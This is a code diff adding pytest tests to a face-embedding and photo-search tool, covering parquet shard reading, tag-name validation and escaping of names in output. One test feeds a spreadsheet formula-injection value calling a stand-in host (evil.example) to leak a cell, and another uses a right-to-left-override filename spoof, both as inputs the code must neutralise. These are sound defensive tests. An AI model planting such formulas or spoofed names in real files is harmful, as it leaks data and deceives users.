@@ -38,3 +38,62 @@ def test_files_loaded_from_an_embed_table_are_not_embedded_again(
         out = capsys.readouterr()
         # was: both files embedded again ("2 updated"), the bulk load's work thrown away
         assert "2 skipped" in out.out + out.err, out
+
+
+def test_an_empty_embed_table_reads_with_the_others_as_one_dataset(tmp_path: Path) -> None:
+    import numpy as np
+    from PIL import Image
+
+    noface = tmp_path / "noface"
+    noface.mkdir()
+    Image.fromarray(np.full((120, 160, 3), 128, np.uint8)).save(noface / "wall.png")
+    faces = _imgs(tmp_path / "faces", ("grace_hopper.jpg",))
+    shards = tmp_path / "shards"
+    shards.mkdir()
+    assert main(["-q", "embed", str(noface), "-o", str(shards / "part-0.parquet")]) == 0
+    assert main(["-q", "embed", str(faces), "-o", str(shards / "part-1.parquet")]) == 0
+    # was: ArrowNotImplementedError "Unsupported cast from large_string to null"
+    both = pd.read_parquet(shards)
+    assert len(both) == 1 and both["face"].dtype == "int64" and both["size"].dtype == "int64"
+
+
+@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/?"&A2)', "@SUM(A1)", "+1", "-x"])
+def test_a_tag_name_a_spreadsheet_would_run_is_refused(name: str) -> None:
+    from exprsim.errors import ExprsimError
+    from exprsim.index.store import check_new_tag_name
+
+    with pytest.raises(ExprsimError, match="would run it as a formula"):
+        check_new_tag_name(name)  # was: accepted, then whole cells of tag -o / search -o
+    check_new_tag_name("a=b+c")  # inside the name it is text
+
+
+def test_tag_messages_show_a_name_once_escaped(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    db = str(tmp_path / "faces.db")
+    img = _imgs(tmp_path / "imgs", ("grace_hopper.jpg",)) / "grace_hopper.jpg"
+    assert main(["-q", "tag", "add", "C:\\smile", str(img), "--db", db]) == 0
+    out = capsys.readouterr().out
+    assert "for 'C:\\smile' from" in out, out  # was 'C:\\\\smile' (repr)
+    assert main(["-q", "tag", "remove", "C:\\nope", "--db", db]) == 1
+    assert "no tag named 'C:\\nope'" in capsys.readouterr().err
+
+
+def test_search_tables_escape_control_characters_in_names(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    album = tmp_path / "album"
+    album.mkdir()
+    spoof = album / "photo_\u202egnp.jpg"
+    shutil.copy(sample_path("grace_hopper.jpg"), spoof)
+    shutil.copy(sample_path("astronaut_eileen_collins.jpg"), album / "a\nb.jpg")
+    db = str(tmp_path / "faces.db")
+    assert main(["-q", "index", "add", str(album), "--db", db]) == 0
+    out = tmp_path / "hits.csv"
+    query = str(sample_path("pexels_langer_frame000.jpg"))  # not a copy of either
+    assert main(["-q", "search", query, "--db", db, "-k", "2", "-o", str(out)]) == 0
+    printed = capsys.readouterr().out
+    text = out.read_text(encoding="utf-8")
+    # was: a live U+202E (shown as "photo_gpj.png") and a newline inside a CSV field
+    assert "\u202e" not in printed + text and "\\u202e" in text
+    assert len(text.splitlines()) == 3 and "a\\nb.jpg" in text and "a\\nb.jpg" in printed
